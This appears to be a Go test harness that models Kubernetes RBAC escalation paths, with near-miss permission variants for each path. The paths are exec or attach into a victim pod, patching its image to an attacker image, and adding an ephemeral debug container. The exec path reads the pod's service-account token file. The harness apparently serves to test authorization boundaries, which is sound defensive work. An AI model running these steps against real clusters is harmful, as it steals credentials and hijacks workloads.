package main

import (
	"fmt"
	"net/http"

	"k8s.io/apimachinery/pkg/types"
)

// runner is a pod of the victim.
const runner = `
apiVersion: v1
kind: Pod
metadata: {namespace: "{ns}", name: runner}
spec: {nodeName: "{node}", serviceAccountName: victim, containers: [{name: main, image: "registry.example/run:1"}]}
`

// spdy asks for a connection to be upgraded.
func spdy() map[string]string {
	return map[string]string{"Connection": "Upgrade", "Upgrade": "SPDY/3.1", "X-Stream-Protocol-Version": "v4.channel.k8s.io"}
}

// enters a pod by a stream, and finds the token there.
func enters(method, sub string) func(*attacker) error {
	return func(a *attacker) error {
		path := "/api/v1/namespaces/" + a.ns + "/pods/runner/" + sub + "?stdout=true"
		if sub == "exec" {
			path += "&command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token"
		}
		if err := a.streams(method, path, spdy()); err != nil {
			return err
		}
		if n := a.machine.hears("/" + sub + "/" + a.ns + "/runner/main"); n == 0 {
			return fmt.Errorf("the kubelet has not heard of it: %w", errNothing)
		}
		v, err := a.inside(a.ns, "runner")
		if err != nil {
			return err
		}
		return v.becomes(nil)
	}
}

// replaceImage has the pod of the victim run the attacker's image.
func replaceImage(a *attacker) error {
	patch := fmt.Sprintf(`{"spec":{"containers":[{"name":"main","image":%q}]}}`, attack)
	_, err := a.client.CoreV1().Pods(a.ns).Patch(a.ctx, "runner", types.StrategicMergePatchType, []byte(patch), patchOptions())
	return a.runs(err)
}

// addContainer adds a container to the pod of the victim.
func addContainer(a *attacker) error {
	patch := fmt.Sprintf(`{"spec":{"ephemeralContainers":[{"name":"debug","image":%q,"targetContainerName":"main"}]}}`, attack)
	_, err := a.client.CoreV1().Pods(a.ns).Patch(a.ctx, "runner", types.StrategicMergePatchType, []byte(patch), patchOptions(), "ephemeralcontainers")
	return a.runs(err)
}

func execSchemes() []scheme {
	const entered = " I-01 S-01"
	return []scheme{
		{name: "a command in a pod", hops: "W-07" + entered, objects: runner, held: []right{{"ns", "create pods/exec runner"}}, walk: enters(http.MethodPost, "exec"), near: []neighbour{
			{"another name", may(0, "create pods/exec run")},
			{"the verb that was enough of old", func(s *scheme) { s.held[0].may, s.walk = "get pods/exec runner", enters(http.MethodGet, "exec") }},
			{"another subresource", may(0, "create pods/log,pods/exe runner")},
			{"all subresources", may(0, "create pods/* runner")},
		}},
		{name: "a command in a pod by way of a role of all kinds", hops: "W-07" + entered, objects: runner, held: []right{{"ns", "create */exec"}}, walk: enters(http.MethodPost, "exec"), near: []neighbour{
			{"another group", may(0, "create */exec.apps")},
		}},
		{name: "the streams of a pod", hops: "W-08" + entered, objects: runner, held: []right{{"ns", "create pods/attach"}}, walk: enters(http.MethodPost, "attach"), near: []neighbour{
			{"the verb that was enough of old", func(s *scheme) { s.held[0].may, s.walk = "get pods/attach", enters(http.MethodGet, "attach") }},
		}},
		{name: "the image of a pod", hops: "W-05" + entered, objects: runner, held: []right{{"ns", "patch pods runner"}}, walk: replaceImage, near: []neighbour{
			{"another name", may(0, "patch pods run")},
			{"a subresource", may(0, "patch pods/status runner")},
		}},
		{name: "a container for debugging", hops: "W-06" + entered, objects: runner, held: []right{{"ns", "patch pods/ephemeralcontainers runner"}}, walk: addContainer, near: []neighbour{
			{"the verb of other streams", may(0, "create pods/ephemeralcontainers runner")},
		}},
	}
}
